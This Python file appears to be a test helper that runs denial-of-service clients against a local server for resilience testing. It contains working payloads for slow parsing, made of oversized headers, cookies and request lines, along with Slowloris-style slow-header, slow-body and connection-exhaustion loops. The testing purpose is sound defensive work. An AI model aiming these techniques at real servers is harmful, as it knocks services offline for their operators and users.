"""Clients that mean harm, a program of its own: `python -m tests.attacks KIND PORT` goes on until it is stopped."""

import resource
import select
import socket
import sys
import time
from contextlib import suppress

_HEAD = b"GET / HTTP/1.1\r\nHost: localhost\r\n"
_FORM = b"POST / HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\n"
# What is sent once, again and again: a parser that looks twice at each character takes seconds for one of these.
COSTLY = {
    "spaces-in-a-header": _HEAD + b"X: " + b" " * 24_000 + b"a\r\n\r\n",
    "more-spaces-in-a-header": _HEAD + b"X: " + b" " * 200_000 + b"a\r\n\r\n",
    "digits-in-the-request-line": b"GET a://" + b"1" * 8_000 + b" x HTTP/1.1\r\n\r\n",
    "a-long-list-of-languages": _HEAD + b"Accept-Language: " + b"de," * 10_000 + b"en\r\n\r\n",
    "many-small-headers": _HEAD + b"a:\r\n" * 7_000 + b"\r\n",
    "many-small-cookies": _HEAD + b"Cookie: " + b"a;" * 15_000 + b"\r\n\r\n",
}
# What is begun on many connections and never ended, or never read; a byte follows now and then.
SLOW = {
    "slow-headers": (1_500, _HEAD + b"X: "),
    "slow-bodies": (1_500, _FORM + b"Content-Length: 60000\r\n\r\npath="),
    "silent-connections": (1_500, b""),
    "more-connections-than-there-may-be": (2_500, _HEAD),
    "answers-that-nobody-reads": (300, _HEAD.replace(b"/", b"/static/site.css", 1) + b"\r\n"),
}
KINDS = (*COSTLY, *SLOW)


def main(kind: str, port: int) -> None:
    """Attack the server at this port; "attacking" is printed once it has begun."""
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    if kind in COSTLY:
        _repeat(COSTLY[kind], port)
    else:
        _hold(*SLOW[kind], port)


def _repeat(request: bytes, port: int) -> None:
    sent: list[socket.socket] = []
    while True:
        with suppress(OSError):
            one = socket.create_connection(("127.0.0.1", port), timeout=1)
            sent.append(one)
            one.sendall(request)
        _say(len(sent) == 1)
        for old in sent[:-20]:
            old.close()
            sent.remove(old)
        time.sleep(0.2)


def _hold(most: int, request: bytes, port: int) -> None:
    held: list[socket.socket] = []
    first = True
    while True:
        for _ in range(most - len(held)):
            with suppress(OSError):
                held.append(_begun(request, port))
                time.sleep(0.02 if request.endswith(b"\r\n\r\n") else 0)  # what is whole costs the site its work
        _say(first)
        first = False
        until = time.monotonic() + 15
        while time.monotonic() < until and len(held) > most // 2:
            time.sleep(0.5)
            held = [one for one in held if not _ended(one)]
        for one in held if request else ():
            with suppress(OSError):
                one.send(b"a")


def _begun(request: bytes, port: int) -> socket.socket:
    one = socket.socket()
    one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1_024)
    one.settimeout(1)
    one.connect(("127.0.0.1", port))
    one.sendall(request)
    return one


def _ended(one: socket.socket) -> bool:
    waiting = select.poll()
    waiting.register(one, select.POLLRDHUP)
    if not waiting.poll(0):
        return False
    one.close()
    return True


def _say(first: bool) -> None:
    if first:
        print("attacking", flush=True)


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]))
